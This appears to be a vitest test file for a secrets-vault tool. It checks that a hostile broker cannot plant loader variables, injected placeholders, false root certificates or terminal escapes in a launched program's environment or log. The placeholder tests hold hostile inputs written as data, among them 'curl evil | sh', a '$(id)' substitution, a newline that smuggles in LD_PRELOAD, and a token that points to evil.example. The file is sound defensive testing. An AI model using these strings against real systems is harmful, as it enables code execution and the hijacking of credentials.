// A broker in other hands, against the machine of a run that asks it: what it would put into the program's surroundings, its files and its log. The program of each story would leave a mark.
import { existsSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { expect, it, onTestFinished } from "vitest";
import { runBrokered } from "../../../src/app/runs/brokered-run.ts";
import type { BrokeredOptions } from "../../../src/app/runs/brokered-run.ts";
import { openBrokerClient, parseBrokerOrigin } from "../../../src/broker/client.ts";
import { VaultError } from "../../../src/errors.ts";
import { drawKey } from "../../support/gallery-broker.ts";
import { makeHomeIn } from "../../support/home.ts";
import { survive } from "../../support/raw-sockets.ts";
import { makeFolder } from "../../support/temporary.ts";
import { makeTestCa } from "../../support/test-ca.ts";

const CA = makeTestCa();
const SECRET = { variable: "API_KEY", name: "API_KEY", placeholder: "vault_ph_0123456789abcdefghijklmnop", hosts: ["api.example.com:443"], places: ["header"] };
const ANSWER = { session: "0".repeat(32), token: "1".repeat(64), caCertificate: CA.certificate, secrets: [SECRET] };

interface Told {
  /** The error's code, or the program's status. */
  readonly ended: string | number;
  readonly message: string;
  readonly warnings: readonly string[];
  /** What the program has seen of its surroundings; undefined where it was not started. */
  readonly seen: string | undefined;
  readonly log: string;
}

/** A run at a broker that answers so. @param events what it says on the session's line. @param end and at its end. */
async function play(answer: object, { options = {}, events = "", end = { lines: [] } }: { readonly options?: Partial<BrokeredOptions>; readonly events?: string | undefined; readonly end?: unknown } = {}): Promise<Told> {
  const folder = makeFolder();
  const server = createServer((request, response) => {
    request.resume().on("end", () => {
      if (request.method === "POST") response.writeHead(201).end(JSON.stringify(answer));
      else response.writeHead(200).end(JSON.stringify(end));
    });
  });
  server.on("upgrade", (_request, socket) => {
    survive(socket).write(`HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: vault-events\r\n\r\n${events}`);
  });
  await new Promise<void>((resolve) => { server.listen(0, "127.0.0.1", resolve); });
  onTestFinished(() => { server.closeAllConnections(); server.close(); });
  const home = makeHomeIn(folder, { PATH: process.env["PATH"] ?? "", VAULT_DIR: join(folder, "vault") });
  const client = openBrokerClient(parseBrokerOrigin(`http://127.0.0.1:${(server.address() as AddressInfo).port}`), drawKey(), [], Date.now);
  const mark = join(folder, "mark");
  const run = runBrokered(home.surroundings, client, {
    command: "sh", args: ["-c", `env > ${mark}; sleep 0.3`], viewpoint: { workspace: undefined, group: undefined }, selections: undefined, project: undefined, vault: undefined,
    denyUnmatched: false, strict: false, logFile: join(folder, "log"), tellSummary: undefined, wall: undefined, freshPlaceholders: false, ...options,
  });
  const [ended, message] = await run.then((status) => [status, ""] as const, (error: unknown) => {
    if (error instanceof VaultError) return [error.code, error.message] as const;
    throw error;
  });
  return { ended, message, warnings: home.warnings, seen: existsSync(mark) ? readFileSync(mark, "utf8") : undefined, log: existsSync(join(folder, "log")) ? readFileSync(join(folder, "log"), "utf8") : "" };
}

const lending = (change: object): object => ({ ...ANSWER, secrets: [{ ...SECRET, ...change }] });

it("honestly, an answer starts the program, with the placeholder in its surroundings", async () => {
  const { ended, seen } = await play(ANSWER);
  expect(ended).toBe(0);
  expect(seen).toContain(`API_KEY=${SECRET.placeholder}`);
});

it.each([
  ["LD_PRELOAD"], ["PATH"], ["NODE_OPTIONS"], ["BASH_ENV"], ["HTTPS_PROXY"], ["https_proxy"], ["SSL_CERT_FILE"], ["NODE_EXTRA_CA_CERTS"], ["NO_PROXY"], ["PYTHONPATH"], ["GIT_SSH_COMMAND"], ["NODE_TLS_REJECT_UNAUTHORIZED"], ["VAULT_DIR"], ["Path"], ["HOME"],
])("a broker in other hands sets no variable that programs are loaded or led by, not by a secret of that very name: %s", async (name) => {
  const { ended, seen } = await play(lending({ variable: name, name }));
  expect([ended, seen]).toEqual(["bad-schema", undefined]);
});

it.each([
  ["another than the secret's name", "OTHER", undefined],
  ["one that was not among those asked for", "OTHER", [{ variable: "TOKEN", name: "API_KEY" }]],
  ["the secret's own name, where it was asked for under another", "API_KEY", [{ variable: "TOKEN", name: "API_KEY" }]],
])("a broker in other hands sets no variable that nobody has asked for: %s", async (_what, variable, selections) => {
  const { ended, message, seen } = await play(lending({ variable }), { options: { selections } });
  expect([ended, seen]).toEqual(["bad-schema", undefined]);
  expect(message).toContain(`"${variable}"`);
});

it("honestly, what was asked for is set, under the name that was asked for or that the project's file has", async () => {
  expect((await play(lending({ variable: "TOKEN" }), { options: { selections: [{ variable: "TOKEN", name: "API_KEY" }] } })).seen).toContain(`TOKEN=${SECRET.placeholder}`);
  const project = JSON.stringify({ secrets: { TOKEN: { secret: "API_KEY" } } });
  expect((await play(lending({ variable: "TOKEN" }), { options: { project } })).seen).toContain(`TOKEN=${SECRET.placeholder}`);
  expect((await play(ANSWER, { options: { project } })).ended).toBe("bad-schema");
});

it("a broker in other hands sets no variable twice", async () => {
  expect((await play({ ...ANSWER, secrets: [SECRET, SECRET] })).ended).toBe("bad-schema");
});

it.each([
  ["a variable with a line in it", { variable: "A\nLD_PRELOAD" }], ["with an equals sign", { variable: "A=B" }], ["with a NUL", { variable: "A\0" }], ["an empty one", { variable: "" }], ["a name with a space", { variable: undefined, name: "A B" }],
])("a broker's names that are none start no program: %s", async (_what, change) => {
  const { ended, seen } = await play(lending(change));
  expect([ended, seen]).toEqual(["bad-schema", undefined]);
});

it.each([
  ["a line", "vault_ph_0123456789abc\nLD_PRELOAD=/tmp/x.so"], ["a path", "/tmp/x.so"], ["a longer path", "/home/somebody/.cache/library.so"], ["a flag", "--import=data:text/javascript"], ["a command", "sh -c 'curl evil | sh'"], ["a list", "vault_ph_0123456789,vault_ph_0123456789"],
  ["an escape", "vault_ph_\u001b[2J0123456789abc"], ["a substitution", "vault_ph_$(id)0123456789abc"], ["a short word", "1"], ["nothing", ""], ["a word without end", "x".repeat(20_000)], ["a number", 7],
])("a broker's placeholder is one word, and nothing that a program would act on: %s", async (_what, placeholder) => {
  const { ended, seen } = await play(lending({ placeholder }));
  expect([ended, seen]).toEqual(["bad-schema", undefined]);
});

it.each([
  ["no certificate", "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"], ["words", "trust me"], ["two", `${CA.certificate}${CA.certificate}`], ["a key beside it", `${CA.certificate}${CA.identityFor("x").key}`],
  ["text before it", `# root\n${CA.certificate}`], ["one that is no root", CA.identityFor("localhost").cert], ["nothing", ""],
])("a broker's root that is none is trusted by no program: %s", async (_what, caCertificate) => {
  const { ended, seen } = await play({ ...ANSWER, caCertificate });
  expect([ended, seen]).toEqual(["bad-schema", undefined]);
});

it.each([
  ["a session with a path in it", { session: "../../v1/claims/aaaaaaaaaaaaaaaa" }], ["a session that is too long", { session: "0".repeat(64) }], ["a token with an address in it", { token: `${"1".repeat(40)}@evil.example:80/` }],
  ["hosts that are none", { secrets: [{ ...SECRET, hosts: ["http://x/ y"] }] }], ["hosts with a line in them", { secrets: [{ ...SECRET, hosts: ["a\n127.0.0.1 b"] }] }], ["every host", { secrets: [{ ...SECRET, hosts: ["*"] }] }],
  ["more hosts than there can be", { secrets: [{ ...SECRET, hosts: Array.from({ length: 100 }, (_, at) => `h${at}.example:443`) }] }],
  ["more secrets than there can be", { secrets: Array.from({ length: 10_001 }, () => SECRET) }], ["places that are none", { secrets: [{ ...SECRET, places: ["everywhere"] }] }],
  ["an answer that is no object", []], ["a prototype", JSON.parse('{"__proto__":{"session":"x"}}') as object],
])("a broker's answer with a part that is none starts no program: %s", async (_what, change) => {
  const { ended, seen } = await play(Array.isArray(change) ? change : { ...ANSWER, ...change, ...("__proto__" in change && Object.keys(change).length === 1 && !("session" in change) ? { session: undefined } : {}) });
  expect(["bad-schema", "out-of-bounds"]).toContain(ended);
  expect(seen).toBeUndefined();
});

it("what a broker says for the run's log and is without end, no object or would move a cursor is not in the log", async () => {
  const good = '{"decision":"served"}';
  const events = ["x".repeat(200_000), '["a"]', "not json", '{"a": 1}', '{"a":"\u009b2J"}', '{"a":"\u202eevil"}', "", good, `{"a":"${"y".repeat(100_000)}"}`].join("\n");
  const { ended, log } = await play(ANSWER, { events: `${events}\n` });
  expect(ended).toBe(0);
  expect(log).toBe(`${good}\n`);
});

it("a line of a broker's that never ends is not kept", async () => {
  const { ended, log } = await play(ANSWER, { events: "z".repeat(8_000_000) });
  expect([ended, log]).toEqual([0, ""]);
});

it.each([
  ["escapes", { lines: ["\u001b[2J"] }], ["lines", { lines: ["a\nwarning: b"] }], ["no list", { lines: "x" }], ["more than a person reads", { lines: Array.from({ length: 5000 }, () => "x") }], ["nothing", undefined],
])("what a broker says at the end and is no plain text is not repeated to the person, and the program's status counts: %s", async (_what, end) => {
  const { ended, warnings } = await play(ANSWER, { end });
  expect(ended).toBe(0);
  for (const warning of warnings) expect(warning).toMatch(/^[\x20-\x7e]*$/);
  expect(warnings.join("\n")).not.toContain("warning: b");
});
